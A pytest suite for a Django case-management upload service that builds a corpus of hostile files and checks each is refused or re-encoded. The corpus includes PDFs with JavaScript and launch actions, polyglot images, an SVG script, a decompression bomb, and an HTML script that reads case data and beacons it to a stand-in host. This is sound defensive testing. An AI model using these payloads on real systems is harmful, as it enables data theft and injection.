"""Files that cannot hurt: a corpus of hostile and sloppy uploads, each refused with a reason or neutralised, through the
ICTS upload service (the analyst who owns the case) and, for partners' files, at receipt (ICD §7) and in storage.
A script in every place a JPEG, PNG or TIFF can hold one (tests/files_corpus.py) comes out as pixels alone. Serving
adds a sandbox CSP and a download disposition. The figures (tried, refused, neutralised) are printed by the corpus
tests."""

import base64
import io
import json

import pytest
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from icts import services
from icts.models import PackageAttachment
from ident_bridge import filecheck, icd
from tests.factories import (AgreementFactory, CaseFactory, PersonFactory, UserFactory, cis_record, request_message,
                             response_message, result_message, store_inbound)
from cpms.core.files import store_content_addressed
from tests.files_corpus import FILENAMES, PLACES, clean_structure


def pdf(build=None, *, encrypt=False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if build:
        build(writer)
    if encrypt:
        writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def launch(writer):
    annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                              NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
                              NameObject("/A"): DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                                                  NameObject("/F"): TextStringObject("calc.exe")})})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])


def page_action(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})})


def names_javascript(writer):
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("run"), writer._add_object(action)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})


def uri_link(writer):
    writer.add_uri(0, "https://www.uscis.gov/", [0, 0, 10, 10])


def image(fmt="PNG", size=(40, 30), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, fmt, **save)
    return out.getvalue()


HTML = b"<html><body><script>fetch('/api/v1/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"


def jpeg_with_metadata_and_a_tail() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "Home address: 12 Secret Lane"  # ImageDescription
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (10, 120, 10)).save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue() + b"<html><script>alert(document.cookie)</script></html>"


def bomb() -> bytes:
    out = io.BytesIO()
    Image.new("1", (30000, 30000)).save(out, "PNG")  # 900 megapixels of nothing: compresses to a few kB
    return out.getvalue()

# (name, filename, declared type, bytes, what must happen: "refused: <words>" or "neutralised")
CORPUS = [
    ("pdf-then-html", "scan.pdf", "application/pdf", b"%PDF-1.4\n" + HTML, "refused: web-page markup"),
    ("pdf-javascript-openaction", "scan.pdf", "application/pdf", pdf(lambda w: w.add_open_action(JavaScript("app.alert(1)"))),
     "refused: JavaScript"),
    ("pdf-embedded-file", "scan.pdf", "application/pdf", pdf(lambda w: w.add_attachment("run.exe", b"MZ\x90\x00")),
     "refused: embedded file"),
    ("pdf-launch-action", "scan.pdf", "application/pdf", pdf(launch), "refused: launches a program"),
    ("pdf-page-open-action", "scan.pdf", "application/pdf", pdf(page_action), "refused: JavaScript"),
    ("pdf-encrypted", "scan.pdf", "application/pdf", pdf(encrypt=True), "refused: encrypted"),
    ("pdf-truncated", "scan.pdf", "application/pdf", pdf()[:60], "refused: cannot be read"),
    ("tiff-magic-then-executable", "scan.tif", "image/tiff", b"II*\x00" + b"MZ\x90\x00\x03" + b"\x00" * 200,
     "refused: cannot be decoded"),
    ("jpeg-magic-then-html", "photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0" + HTML, "refused: cannot be decoded"),
    ("png-named-pdf", "scan.pdf", "application/pdf", image("PNG"), "refused: its content is a PNG image"),
    ("png-declared-html", "photo.png", "text/html", image("PNG"), "refused: says it is text/html"),
    ("svg", "drawing.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
     "refused: none of them"),
    ("empty", "scan.pdf", "application/pdf", b"", "refused: empty"),
    ("decompression-bomb", "photo.png", "image/png", bomb(), "refused: too large to open safely"),
    ("jpeg-exif-and-html-tail", "photo.jpg", "image/jpeg", jpeg_with_metadata_and_a_tail(), "neutralised"),
    ("png-then-zip", "photo.png", "image/png", image("PNG") + b"PK\x03\x04" + b"\x00" * 100, "neutralised"),
    ("tiff", "scan.tiff", "image/tiff", image("TIFF"), "neutralised"),
    ("jpeg-script-in-comment", "photo.jpg", "image/jpeg", image("JPEG", comment=HTML), "neutralised"),
    ("png-animated", "photo.png", "image/png", image("PNG", save_all=True, append_images=[Image.new("RGB", (40, 30))]),
     "refused: animated"),
    ("tiff-too-many-pages", "scan.tif", "image/tiff",
     image("TIFF", size=(4, 4), save_all=True, append_images=[Image.new("RGB", (4, 4))] * 50),
     "refused: at most 50"),
    ("pdf-document-javascript", "scan.pdf", "application/pdf", pdf(names_javascript), "refused: JavaScript"),
]
CLEAN = [("pdf-plain", "scan.pdf", "application/pdf", pdf()), ("pdf-with-a-web-link", "scan.pdf", "application/pdf", pdf(uri_link)),
         # Markup as a title's text, escaped (\074script\076): a string a viewer shows, never bytes a browser could sniff.
         ("pdf-escaped-markup-in-title", "scan.pdf", "application/pdf", pdf(lambda w: w.add_metadata({"/Title": HTML.decode()})))]


@pytest.fixture
def case(db, django_capture_on_commit_callbacks):
    AgreementFactory(partner__code="CAN", authorised_attachment_kinds=["passport", "photograph", "other_document"])
    cis_record(PersonFactory(fin="FIN1000000001"))
    from ident_bridge.inbound import inbound_process
    from cpms.partner_requests.models import PartnerRequest

    message = request_message()
    with django_capture_on_commit_callbacks(execute=True):
        inbound_process(store_inbound(message).pk)
    req = PartnerRequest.objects.get(request_ref=message["body"]["request_ref"])
    analyst = UserFactory(role="icts_analyst")
    case = services.case_assign(actor=analyst, case=req.icts_case, analyst=analyst)
    services.package_save(actor=analyst, case=case, reviewer_name="Rita Moreno", person={"family_name": "Haddad"})
    return case, analyst


def test_every_hostile_upload_is_refused_or_neutralised(case, capsys):
    case, analyst = case
    tried = refused = neutralised = 0
    for name, filename, declared, data, expected in CORPUS:
        tried += 1
        try:
            att = services.package_add_attachment(actor=analyst, case=case, filename=filename, data=data, kind="passport",
                                                  declared_type=declared)
        except services.IctsError as exc:
            refused += 1
            assert expected.startswith("refused"), (name, exc.message)
            assert expected.split(": ", 1)[1] in exc.message, (name, exc.message)
            assert exc.field == "file"
            continue
        assert expected == "neutralised", (name, "accepted as it was")
        stored = att.file.open("rb").read()
        assert stored != data and Image.open(io.BytesIO(stored)).size  # drawn again from its pixels
        assert b"<html" not in stored and b"PK\x03\x04" not in stored and b"Secret Lane" not in stored, name
        assert clean_structure(stored) == [], name
        assert att.sha256 == icd.sha256_hex(stored)
        neutralised += 1
    for name, filename, declared, data in CLEAN:
        tried += 1
        att = services.package_add_attachment(actor=analyst, case=case, filename=filename, data=data, kind="other_document",
                                              declared_type=declared)
        assert att.file.open("rb").read() == data, name  # a clean PDF is kept exactly
    with capsys.disabled():
        print(f"\nupload corpus: {tried} files tried, {refused} refused, {neutralised} neutralised, "
              f"{len(CLEAN)} clean kept, 0 server errors")
    assert refused + neutralised == len(CORPUS)
    assert PackageAttachment.objects.count() == neutralised + len(CLEAN)


@pytest.mark.parametrize("name,filename,declared,data,expected",
                         [c for c in CORPUS if c[0].startswith("pdf") or c[0] in ("jpeg-magic-then-html", "tiff-magic-then-executable",
                                                                                     "png-animated", "tiff-too-many-pages")],
                         ids=lambda v: v if isinstance(v, str) and "-" in v else "")
def test_a_partners_hostile_attachment_is_refused_at_receipt(db, name, filename, declared, data, expected):
    """ICD §7: the same checks on what a partner sends; the message is refused with the attachment's pointer."""
    if filecheck.ACTIVE_PDF_NAMES and not data:
        pytest.skip("an empty attachment is refused by the schema (minLength)")
    att = {"filename": filename, "media_type": icd.sniff_media_type(data) or declared, "kind": "passport",
           "sha256": icd.sha256_hex(data), "content_base64": base64.b64encode(data).decode()}
    message = {"body": {"person": {}, "attachments": [att]}}
    decoded, errors = icd.decode_attachments(message)
    assert decoded == [] and errors and errors[0].pointer.startswith("/body/attachments/0/")


def test_served_files_are_sandboxed_downloads_unless_re_encoded_images(case, client):
    case, analyst = case
    png = services.package_add_attachment(actor=analyst, case=case, filename="photo.png", data=image("PNG"), kind="photograph")
    doc = services.package_add_attachment(actor=analyst, case=case, filename="scan.pdf", data=pdf(), kind="passport")
    client.post(reverse("system-use"))
    client.force_login(analyst)
    shown = client.get(reverse("icts-attachment", args=[case.pk, png.pk]))
    downloaded = client.get(reverse("icts-attachment", args=[case.pk, doc.pk]))
    assert shown["Content-Disposition"].startswith("inline") and downloaded["Content-Disposition"].startswith("attachment")
    for resp in (shown, downloaded):
        assert resp["Content-Security-Policy"].startswith("sandbox") and resp["X-Content-Type-Options"] == "nosniff"
    assert json.dumps(sorted(filecheck.EXTENSIONS)) == '["application/pdf", "image/jpeg", "image/png", "image/tiff"]'


def test_a_script_in_any_place_an_image_holds_one_is_not_stored(case, capsys):
    """Every place of tests/files_corpus.py, uploaded by the analyst: what is stored (and sent) is pixels alone."""
    case, analyst = case
    wrong = {}
    for media_type, place, build in PLACES:
        data = build()
        att = services.package_add_attachment(actor=analyst, case=case, filename=FILENAMES[media_type], data=data,
                                              kind="passport", declared_type=media_type)
        stored = att.file.open("rb").read()
        found = clean_structure(stored)
        original, copy = Image.open(io.BytesIO(data)), Image.open(io.BytesIO(stored))
        if copy.size != original.size or getattr(copy, "n_frames", 1) != getattr(original, "n_frames", 1):
            found.append(f"{copy.size}/{getattr(copy, 'n_frames', 1)} pages, not {original.size}/{getattr(original, 'n_frames', 1)}")
        if found or att.media_type != media_type or att.sha256 != icd.sha256_hex(stored):
            wrong[f"{media_type} {place}"] = found
        services.package_remove_attachment(actor=analyst, case=case, attachment_id=att.pk)  # the same pixels come next
    with capsys.disabled():
        print(f"\nimage places: {len(PLACES)} scripts hidden in JPEG, PNG and TIFF files, {len(PLACES) - len(wrong)} gone")
    assert wrong == {}


def test_a_partners_image_is_stored_as_pixels_alone_and_the_original_kept_as_evidence(db, media_root):
    """ICD §7 checks the partner's sha256 on the bytes as received; CPMS keeps, shows and hands on the re-encoded copy,
    and the raw inbound message (the evidence) still holds the original."""
    from cpms.queries import services as queries
    from cpms.queries.models import ResponseAttachment

    AgreementFactory(partner__code="CAN")
    officer = UserFactory(role="officer")
    case = CaseFactory(officers=[officer])
    rows = []
    for start in range(0, len(PLACES), icd.MAX_ATTACHMENTS):
        chunk = PLACES[start:start + icd.MAX_ATTACHMENTS]
        sent = [icd.attachment(filename=FILENAMES[m], media_type=m, kind="passport", data=build()) for m, _, build in chunk]
        query = queries.query_submit(actor=officer, case=case, partner_code="CAN", reason="asylum_claimant", priority="high")
        result = result_message(query)
        queries.round1_record_result(message=result, inbound=store_inbound(result))
        message = response_message(query, attachments=sent)
        assert icd.parse(icd.canonical_bytes(message), accept_types=icd.IDENT_TO_CPMS).errors == []  # accepted at receipt
        response = queries.round_record_response(message=message, inbound=store_inbound(message))
        rows += [(place, att, row) for (_, place, _), att, row in zip(chunk, sent, response.attachments.all(), strict=True)]
    wrong = {}
    for place, att, row in rows:
        stored = row.file.open("rb").read()
        evidence = icd.loads(bytes(row.response.inbound_message.raw))[0]["body"]["attachments"][row.position]
        problems = clean_structure(stored)
        if row.sha256 != icd.sha256_hex(stored) or row.size != len(stored) or row.received_sha256 != att["sha256"]:
            problems.append("digests")
        if evidence["content_base64"] != att["content_base64"] or evidence["sha256"] != row.received_sha256:
            problems.append("the evidence lost the original")
        if problems:
            wrong[place] = problems
    assert len(rows) == len(PLACES) == ResponseAttachment.objects.count()
    assert wrong == {}


def _saved(image, fmt, **save) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def _turned() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    return _saved(Image.new("RGB", (40, 10), (9, 90, 9)), "JPEG", exif=exif.tobytes())


def _palette() -> Image.Image:
    image = Image.new("P", (10, 10))
    image.putpalette([0, 0, 0, 255, 0, 0] * 128)
    return image


# (what, media type, bytes, the re-encoded copy's mode and size): the scans and photographs people really send.
KINDS = [
    ("16-bit grey PNG", "image/png", _saved(Image.new("I;16", (30, 20), 4000), "PNG"), "I;16", (30, 20)),
    ("16-bit grey TIFF", "image/tiff", _saved(Image.new("I;16", (30, 20), 4000), "TIFF"), "I;16", (30, 20)),
    ("bilevel fax TIFF", "image/tiff", _saved(Image.new("1", (64, 64), 1), "TIFF", compression="group4"), "1", (64, 64)),
    ("CMYK TIFF", "image/tiff", _saved(Image.new("CMYK", (10, 10), (1, 2, 3, 4)), "TIFF"), "CMYK", (10, 10)),
    ("JPEG-compressed TIFF", "image/tiff", _saved(Image.new("RGB", (16, 16)), "TIFF", compression="jpeg"), "RGB", (16, 16)),
    ("CMYK JPEG", "image/jpeg", _saved(Image.new("CMYK", (10, 10), (1, 2, 3, 4)), "JPEG"), "CMYK", (10, 10)),
    ("progressive JPEG", "image/jpeg", _saved(Image.new("RGB", (40, 10)), "JPEG", progressive=True), "RGB", (40, 10)),
    ("photo taken sideways (EXIF orientation)", "image/jpeg", _turned(), "RGB", (10, 40)),
    ("palette PNG with a transparent colour", "image/png", _saved(_palette(), "PNG", transparency=0), "RGBA", (10, 10)),
    ("grey PNG with alpha", "image/png", _saved(Image.new("LA", (10, 10), (3, 4)), "PNG"), "LA", (10, 10)),
]


@pytest.mark.parametrize("what,media_type,data,mode,size", KINDS, ids=[k[0] for k in KINDS])
def test_every_kind_of_image_is_redrawn_as_itself(what, media_type, data, mode, size):
    copy = filecheck.reencode_image(data, media_type)
    image = Image.open(io.BytesIO(copy))
    assert (icd.sniff_media_type(copy), image.mode, image.size) == (media_type, mode, size)
    assert clean_structure(copy) == []


def test_images_stored_before_the_redraw_are_redrawn_once_unless_sent(case, media_root, django_capture_on_commit_callbacks,
                                                                      monkeypatch):
    """`manage.py redraw_stored_images`: a package not yet sent and a partner's stored image lose what their files hid;
    what was sent stays as IDENT received it; a second run changes nothing (a JPEG is not recompressed again)."""
    from django.core.management import call_command

    from cpms.queries.models import ResponseAttachment
    from icts.models import IctsCase
    from tests.files_corpus import jpeg_everything, png_everything, tiff_everything

    from tests.fakes import ident_accepts_everything

    ident_accepts_everything(monkeypatch)
    case, analyst = case
    hostile_jpeg = jpeg_everything()  # built once: an ICC profile carries the time it was made

    def stored_as_before(package, filename, data):  # what an upload stored before issue 16: the bytes as they came
        att = PackageAttachment(package=package, filename=filename, media_type=icd.sniff_media_type(data), kind="passport",
                                sha256=icd.sha256_hex(data), size=len(data), uploaded_by=analyst)
        att.file.name = store_content_addressed(att.file.field.generate_filename(att, att.sha256), data)
        att.save()
        return att

    preparing = [stored_as_before(case.package, f, d) for f, d in (("a.jpg", hostile_jpeg), ("b.png", png_everything()),
                                                                    ("c.tif", tiff_everything()))]
    services.package_submit(actor=analyst, case=case)
    with django_capture_on_commit_callbacks(execute=True):
        services.package_review(actor=UserFactory(role="icts_reviewer"), case=IctsCase.objects.get(pk=case.pk), verdict="approved")
    assert IctsCase.objects.get(pk=case.pk).status == "transmitted"
    sent_bytes = {a.pk: a.file.open("rb").read() for a in preparing}

    other = _second_case(analyst, django_capture_on_commit_callbacks)
    pending = stored_as_before(other.package, "d.jpg", hostile_jpeg)
    partner = _partner_image_stored_as_before(hostile_jpeg)

    call_command("redraw_stored_images", stdout=io.StringIO())
    pending.refresh_from_db()
    partner.refresh_from_db()
    for row in (pending, partner):
        data = row.file.open("rb").read()
        assert clean_structure(data) == [] and row.sha256 == icd.sha256_hex(data) and row.size == len(data)
    assert partner.received_sha256 == icd.sha256_hex(hostile_jpeg) != partner.sha256
    assert {a.pk: PackageAttachment.objects.get(pk=a.pk).file.open("rb").read() for a in preparing} == sent_bytes

    out = io.StringIO()
    call_command("redraw_stored_images", stdout=out)
    assert "0 stored images changed" in out.getvalue()
    assert PackageAttachment.objects.get(pk=pending.pk).sha256 == pending.sha256
    assert ResponseAttachment.objects.get(pk=partner.pk).sha256 == partner.sha256


def _second_case(analyst, capture):
    from ident_bridge.inbound import inbound_process
    from cpms.partner_requests.models import PartnerRequest

    message = request_message(request_ref="CAN-REDRAW-2")
    with capture(execute=True):
        inbound_process(store_inbound(message).pk)
    req = PartnerRequest.objects.get(request_ref="CAN-REDRAW-2")
    other = services.case_assign(actor=analyst, case=req.icts_case, analyst=analyst)
    services.package_save(actor=analyst, case=other, reviewer_name="Rita Moreno", person={"family_name": "Haddad"})
    return other


def _partner_image_stored_as_before(data: bytes):
    """A partner's image stored before issue 16: its file and sha256 are the bytes as received (Canada's agreement is
    the `case` fixture's)."""
    from cpms.queries import services as queries
    from cpms.queries.models import ResponseAttachment

    officer = UserFactory(role="officer")
    query = queries.query_submit(actor=officer, case=CaseFactory(officers=[officer]), partner_code="CAN",
                                 reason="asylum_claimant", priority="high")
    result = result_message(query)
    queries.round1_record_result(message=result, inbound=store_inbound(result))
    message = response_message(query, attachments=[])
    response = queries.round_record_response(message=message, inbound=store_inbound(message))
    digest = icd.sha256_hex(data)
    row = ResponseAttachment(response=response, position=0, filename="photo.jpg", media_type="image/jpeg", kind="passport",
                             sha256=digest, received_sha256=digest, size=len(data))
    row.file.name = store_content_addressed(row.file.field.generate_filename(row, digest), data)
    row.save()
    return row
